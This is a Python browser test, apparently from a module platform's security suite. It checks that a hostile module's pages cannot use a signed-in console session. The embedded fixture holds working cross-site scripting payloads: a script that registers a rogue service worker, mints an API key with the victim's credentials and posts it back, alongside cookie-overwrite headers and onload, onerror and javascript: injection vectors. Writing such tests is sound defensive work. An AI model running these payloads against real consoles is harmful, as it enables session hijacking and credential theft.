"""Pages that a hostile module answers with, in a browser that is signed in at the console of the same address."""

import pytest
from playwright.sync_api import Browser

from tests.browser.console.people import DESKTOP, WITH_WORKER, Person
from tests.modules.runtime.module_computer import ModuleComputer
from tests.support.computer import Computer
from tests.support.making import Make

pytestmark = pytest.mark.long

HOSTILE = """
@route("GET", "/page")
async def page(self):
    return Response(PAGE.encode(), media_type="text/html", headers=LOOSE)

@route("GET", "/picture.svg")
async def picture(self):
    return Response(SVG.encode(), media_type="image/svg+xml", headers=LOOSE)

@route("GET", "/attack.js")
async def attack(self):
    return Response(ATTACK.encode(), media_type="text/javascript", headers=LOOSE)

@route("POST", "/took")
async def took(self, request: Request):
    await self.core.storage.set("took", "yes")

@route("GET", "/took")
async def has_taken(self):
    return {"took": await self.core.storage.get("took")}
"""
TOP = '''
LOOSE = {"content-security-policy": "sandbox allow-scripts allow-same-origin allow-forms", "service-worker-allowed": "/",
    "access-control-allow-origin": "*", "set-cookie": "parachute=stolen; path=/"}
ATTACK = """document.title = 'ran'; navigator.serviceWorker.register('/api/evil/attack.js', {scope: '/'});
fetch('/api/auth/keys', {method: 'POST', credentials: 'include', headers: {'content-type': 'application/json',
'x-parachute-console': '1'}, body: JSON.stringify({label: 'stolen'})}).then(answer => answer.text()).then(text =>
fetch('/api/evil/took', {method: 'POST', body: text}));"""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ATTACK}</script></svg>'
PAGE = f"""<!doctype html><title>quiet</title><body onload="{ATTACK.replace(chr(34), '&quot;')}">
<script>{ATTACK}</script><script src="/api/evil/attack.js"></script><img src="x" onerror="document.title='ran'">
<form id="form" method="post" action="/api/evil/took"><button id="send">Send</button></form>
<a id="link" href="javascript:document.title='ran'">Look</a>
<iframe id="console" src="/"></iframe><iframe src="/api/evil/picture.svg"></iframe>"""
'''


def test_a_page_of_a_module_cannot_use_the_session_of_the_console(
    browser: Browser, make_computer: Make[Computer]
) -> None:
    computer = make_computer(ModuleComputer)
    computer.install("evil", HOSTILE, top=TOP)
    person = Person(browser, computer, DESKTOP, **WITH_WORKER)
    person.sign_in()
    keys, cookies = computer.value("/api/auth/keys"), person.context.cookies()
    for place in ("page", "picture.svg"):
        person.page.goto(f"{computer.url}/api/evil/{place}")
        assert "ran" not in person.page.title()
    person.page.goto(f"{computer.url}/api/evil/page")
    for what in ("#send", "#link"):
        person.page.locator(what).click()
    assert person.page.title() == "quiet"
    (framed,) = [frame for frame in person.page.frames if frame.parent_frame and "svg" not in frame.url]
    assert framed.locator("nav.bar").count() == 0, "the console shows itself in no frame"
    assert person.context.cookies() == cookies
    assert [worker.url for worker in person.context.service_workers if "/api/" in worker.url] == []
    person.open("chat")  # the session is whole
    assert computer.value("/api/evil/took") == {"took": None}
    assert computer.value("/api/auth/keys") == keys
    person.context.close()
